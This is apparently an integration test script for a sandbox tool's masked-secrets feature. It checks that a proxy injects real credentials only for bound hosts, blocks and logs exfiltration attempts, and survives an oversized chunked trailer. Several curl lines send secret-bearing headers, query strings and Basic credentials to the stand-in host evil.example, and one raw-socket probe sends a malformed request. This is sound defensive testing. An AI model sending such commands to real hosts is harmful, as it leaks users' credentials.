#!/usr/bin/env bash
# Masked secrets (issue 17): a secret bound to hosts is only a sentinel inside the sandbox; the
# proxy puts the real value in requests to those hosts (headers, the target, Basic credentials)
# and refuses a request that carries the sentinel to any other host it reads, or in clear
# text. Secrets come from the profile's env (spec.secrets.hosts) and from the operator config
# (secrets: a file per value, for every sandbox). No real value is anywhere in the sandbox, in
# the dry-run plan or in the logs.
source "$(dirname "$0")/lib.sh" "$@"
source "$HERE/fake_internet.sh"
extra_cleanup() { fake_internet_down; }
before="$(kernel_snapshot)"
fake_internet_up

REAL_MY="real-mykey-4f1c2a77d0"
REAL_OTHER="real-other-9b8e113c5a"
REAL_OP="sk-ant-real-operator-51aa90e3"
mkdir -p "$KM_HOME/keys"
printf '%s\n' "$REAL_OP" > "$KM_HOME/keys/op.key"
chmod 600 "$KM_HOME/keys/op.key"
cat >> "$KM_HOME/config.yaml" <<YAML
secrets:
  - {name: OPKEY, file: $KM_HOME/keys/op.key, hosts: [example.org]}
YAML
profile() {  # profile FILE EXTRA-SECRETS-HOSTS-LINE
  cat > "$1" <<YAML
apiVersion: klankermaker.ai/v1alpha2
kind: SandboxProfile
metadata: {name: masked, prefix: ms}
extends: hardened
spec:
  lifecycle: {ttl: "0", idleTimeout: "1h", teardownPolicy: destroy}
  runtime: {substrate: local}
  execution:
    env: {MYKEY: $REAL_MY, OTHERKEY: $REAL_OTHER}
  secrets:
    hosts: {MYKEY: [example.org], OTHERKEY: [evil.example]$2}
  network:
    enforcement: proxy
    httpsOnly: false
    egress: {allowedDNSSuffixes: [], allowedHosts: [example.org, evil.example, github.com, api.openai.com]}
YAML
}
profile "$KM_HOME/m.yaml" ""

# The dry run's plan names the secrets, never their values.
plan="$(km create --dry-run -o json "$KM_HOME/m.yaml")"
expect_not_contains "$plan" "$REAL_MY" "the dry-run plan"
expect_contains "$plan" '"name": "MYKEY"' "the dry-run plan lists the masked secret"

SB="$(km create "$KM_HOME/m.yaml")"
in_sb() { km exec "$SB" -- "$@"; }
sentinel="$(in_sb printenv MYKEY)"
expect_contains "$sentinel" "km-sentinel-" "MYKEY is a sentinel inside"
op_sentinel="$(in_sb printenv OPKEY)"
expect_contains "$op_sentinel" "sk-ant-km-sentinel-" "the operator's secret is a sentinel inside (its prefix kept)"

# To its host: the real value, in a header, in Basic credentials and in the target.
seen="$(in_sb sh -c 'curl -sS -H "X-Key: $MYKEY" -u "user:$MYKEY" "https://example.org/headers?k=$MYKEY&o=$OPKEY" -H "X-Op: $OPKEY"')"
expect_contains "$seen" "\"X-Key\", \"$REAL_MY\"" "the header carries the real value"
expect_contains "$seen" "k=$REAL_MY" "the target carries the real value"
expect_contains "$seen" "\"X-Op\", \"$REAL_OP\"" "the operator's secret is put in"
basic="$(python3 -c 'import json,sys,base64; d=json.loads(sys.argv[1]); print(base64.b64decode([v for k,v in d["headers"] if k=="Authorization"][0].split()[1]).decode())' "$seen")"
expect_eq "$basic" "user:$REAL_MY" "Basic credentials carry the real value"
expect_not_contains "$seen" "km-sentinel-" "no sentinel reaches the secret's host"

# To another host the proxy reads: refused, logged as an exfiltration attempt.
: > "$FI_DIR/headers.log"
for url in "https://evil.example/headers" "https://github.com/headers"; do
  code="$(in_sb sh -c "curl -sS -o /dev/null -w '%{http_code}' -H \"X-Key: \$MYKEY\" $url")"
  expect_eq "$code" 403 "MYKEY's sentinel to $url"
done
code="$(in_sb sh -c 'curl -sS -o /dev/null -w "%{http_code}" "https://evil.example/headers?k=$MYKEY"')"
expect_eq "$code" 403 "MYKEY's sentinel in the target to evil.example"
code="$(in_sb sh -c 'curl -sS -o /dev/null -w "%{http_code}" -u "x:$MYKEY" https://evil.example/headers')"
expect_eq "$code" 403 "MYKEY's sentinel in Basic credentials to evil.example"
expect_eq "$(cat "$FI_DIR/headers.log")" "" "nothing reached the other hosts"
LOG="$KM_HOME/sandboxes/$SB/network.log"
expect_log '"host":"evil.example"' 'exfiltration attempt: the sentinel of MYKEY was sent to evil.example'
# OTHERKEY to its own host works: the refusal is about the pairing, not the host.
seen="$(in_sb sh -c 'curl -sS -H "X-Key: $OTHERKEY" https://evil.example/headers')"
expect_contains "$seen" "$REAL_OTHER" "OTHERKEY to evil.example"
# In clear text: refused even to the secret's own host.
code="$(in_sb sh -c 'curl -sS -o /dev/null -w "%{http_code}" -H "X-Key: $MYKEY" http://example.org/headers')"
expect_eq "$code" 403 "a sentinel in clear text"
# A host the proxy tunnels (not read) gets only the worthless sentinel.
: > "$FI_DIR/headers.log"
in_sb sh -c 'curl -sSk -H "X-Key: $MYKEY" https://api.openai.com/headers' >/dev/null
expect_contains "$(cat "$FI_DIR/headers.log")" "$sentinel" "the tunnelled request carries the sentinel"
expect_not_contains "$(cat "$FI_DIR/headers.log")" "$REAL_MY" "the tunnelled request never carries the real value"

# A field Beast cannot hold (a 70 kB chunked trailer) ends only that connection: the proxy,
# and the supervisor it runs in, go on.
in_sb python3 -c '
import os, socket
h = os.environ["HTTP_PROXY"].split("//")[1].split(":")[0]
s = socket.create_connection((h, 3128), timeout=5)
s.sendall(b"POST http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\nTransfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\nX-T: " + b"y" * 70000 + b"\r\n\r\n")
try:
    s.recv(100)
except OSError:
    pass
' || true
expect_eq "$(km --json status "$SB" | json_field supervisor.alive)" True "the supervisor survived a huge trailer"
seen="$(in_sb sh -c 'curl -sS -H "X-Key: $MYKEY" https://example.org/headers')"
expect_contains "$seen" "$REAL_MY" "the proxy still serves after a huge trailer"

# No real value anywhere in the sandbox: env and command lines of every process, readable files.
in_sb sh -c 'sleep 30 & echo started' >/dev/null
scan="$(km exec --root "$SB" -- sh -c 'cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr "\0" "\n"; grep -rIh -e real- -e sk-ant-real /workspace /home /root /tmp /etc /run 2>/dev/null' 2>/dev/null || true)"
for v in "$REAL_MY" "$REAL_OTHER" "$REAL_OP"; do expect_not_contains "$scan" "$v" "a real value inside the sandbox"; done
expect_fail km exec --root "$SB" -- cat "$KM_HOME/keys/op.key"
# Nor in the logs: the network log and the command log redact real values and sentinels.
for f in network.log commands.log; do
  [ -f "$KM_HOME/sandboxes/$SB/$f" ] || continue
  for v in "$REAL_MY" "$REAL_OTHER" "$REAL_OP" "$sentinel"; do
    expect_not_contains "$(cat "$KM_HOME/sandboxes/$SB/$f")" "$v" "a secret in $f"
  done
done
km destroy --yes "$SB" >/dev/null

# A SOPS bundle (a conformance vector from getsops/sops, re-wrapped to age; see
# tests/unit/secrets/fixtures/README.md): decrypted on the host with the operator's age key;
# a bound key is a sentinel inside, and km validate warns about an unbound one.
FIX="$HERE/../unit/secrets/fixtures"
cp "$FIX/format_age.enc.yaml" "$KM_HOME/bundle.enc.yaml"
install -m 600 "$FIX/age_keys.txt" "$KM_HOME/keys/age.txt"
cat >> "$KM_HOME/config.yaml" <<YAML
sops:
  ageKeyFiles: [$KM_HOME/keys/age.txt]
YAML
bundle_profile() {  # bundle_profile FILE HOSTS-MAPPING
  cat > "$1" <<YAML
apiVersion: klankermaker.ai/v1alpha2
kind: SandboxProfile
metadata: {name: bundle, prefix: mb}
extends: hardened
spec:
  lifecycle: {ttl: "0", idleTimeout: "1h", teardownPolicy: destroy}
  runtime: {substrate: local}
  secrets:
    sopsFile: bundle.enc.yaml
    hosts: $2
  network:
    enforcement: proxy
    egress: {allowedDNSSuffixes: [], allowedHosts: [example.org]}
YAML
}
bundle_profile "$KM_HOME/unbound.yaml" "{}"
expect_contains "$(km validate "$KM_HOME/unbound.yaml" 2>&1)" "foo from the bundle is given to the sandbox as it is" \
  "km validate warns about an unbound bundle key"
bundle_profile "$KM_HOME/bound.yaml" "{foo: [example.org]}"
SB="$(km create "$KM_HOME/bound.yaml")"
foo="$(km exec "$SB" -- printenv foo)"
expect_contains "$foo" "km-sentinel-" "the bundle's bound key is a sentinel inside"
seen="$(km exec "$SB" -- sh -c 'curl -sS -H "X-Foo: $foo" https://example.org/headers')"
expect_contains "$seen" '"X-Foo", "bar"' "the bundle's real value goes to its host"
km destroy --yes "$SB" >/dev/null
printf 'AGE-SECRET-KEY-1QQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQQ\n' > "$KM_HOME/keys/age.txt"
out="$(km create "$KM_HOME/bound.yaml" 2>&1)" && fail "a bundle no configured key opens was accepted"
expect_contains "$out" "age1lzd99uklcjnc0e7d860axevet2cz99ce9pq6tzuzd05l5nr28ams36nvun" "the error names the bundle's recipients"

# Bad bindings fail at create, saying why.
profile "$KM_HOME/bad.yaml" ", NOPE: [example.org]"
out="$(km create "$KM_HOME/bad.yaml" 2>&1)" && fail "a binding of an undefined name was accepted"
expect_contains "$out" "NOPE is defined neither in spec.execution.env nor in the sopsFile bundle" "an undefined name"
profile "$KM_HOME/bad.yaml" ", OPKEY: [evil.example]"
out="$(km create "$KM_HOME/bad.yaml" 2>&1)" && fail "a profile rebound the operator's secret"
expect_contains "$out" "OPKEY is the operator's secret" "the operator's secret cannot be rebound"
expect_eq "$(kernel_snapshot)" "$before" "nothing of this home is left"
echo "PASS: masked secrets"
